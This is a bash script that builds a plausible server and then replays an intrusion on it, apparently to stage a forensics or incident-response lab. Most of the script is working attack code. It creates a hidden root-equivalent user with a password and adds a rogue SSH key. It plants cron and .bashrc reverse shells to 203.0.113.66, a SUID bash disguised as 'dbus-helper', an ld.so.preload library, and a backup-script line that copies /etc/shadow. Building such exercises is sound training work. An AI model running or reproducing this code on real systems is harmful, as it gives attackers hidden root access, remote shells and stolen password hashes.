#!/bin/bash
# Builds the legitimate host, then replays the intrusion.
set -e
# --- legitimate state ---
useradd -m -u 1001 -s /bin/bash deploy
mkdir -p /srv/app /root/.ssh
echo "APP_VERSION=4.2.1" > /srv/app/config.env
echo "print('hello from app')" > /srv/app/main.py
install -m 0755 /plant/backup.sh /usr/local/bin/backup.sh
sed -i '/\/tmp\/.sysd/d' /usr/local/bin/backup.sh
cp /plant/ops-inventory.md /root/ops-inventory.md
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGb1q8xXkz0tOPsv1NwIuNm7pjUYxFq2rY3mH7cU5e0A ops@bastion" > /root/.ssh/authorized_keys
chmod 700 /root/.ssh && chmod 600 /root/.ssh/authorized_keys
cp /etc/skel/.bashrc /root/.bashrc
echo "alias ll='ls -la'" >> /root/.bashrc
# --- intrusion ---
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash -c "system update daemon" sysupdate
echo 'sysupdate:Winter!2024' | chpasswd
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDk3vE9yq1Q0bWc8tHn2lF7Jm4uXo5pR6sT0a9ZkL2xYv backup@app-01" >> /root/.ssh/authorized_keys
cat > /etc/cron.d/php-sess-clean <<'CRON'
# Look for and purge old sessions every 30 minutes
*/5 * * * * root /usr/local/lib/.cache/dbus-helper -p -c 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3 >&3 2>&3' >/dev/null 2>&1
CRON
mkdir -p /usr/local/lib/.cache
cp /bin/bash /usr/local/lib/.cache/dbus-helper
chmod 4755 /usr/local/lib/.cache/dbus-helper
gcc -shared -fPIC -o /usr/local/lib/libsysd.so /plant/libsysd.c
echo /usr/local/lib/libsysd.so > /etc/ld.so.preload
cat > /etc/profile.d/locale-fix.sh <<'PROF'
# fix locale warnings on minimal images
export LC_ALL=C.UTF-8
export LD_PRELOAD=/usr/local/lib/libsysd.so
PROF
sed -i '/\/tmp\/.sysd/d' /plant/backup.sh
python3 - <<'PY'
p = "/usr/local/bin/backup.sh"
lines = open(p).read().splitlines(keepends=True)
lines.insert(6, "cp /etc/shadow /tmp/.sysd/s.$$ 2>/dev/null || true\n")
open(p, "w").write("".join(lines))
PY
printf '%s\n' "(nohup /usr/local/lib/.cache/dbus-helper -p -c 'exec 3<>/dev/tcp/203.0.113.66/4445; sh <&3 >&3 2>&3' >/dev/null 2>&1 &) 2>/dev/null" >> /root/.bashrc
rm -rf /plant
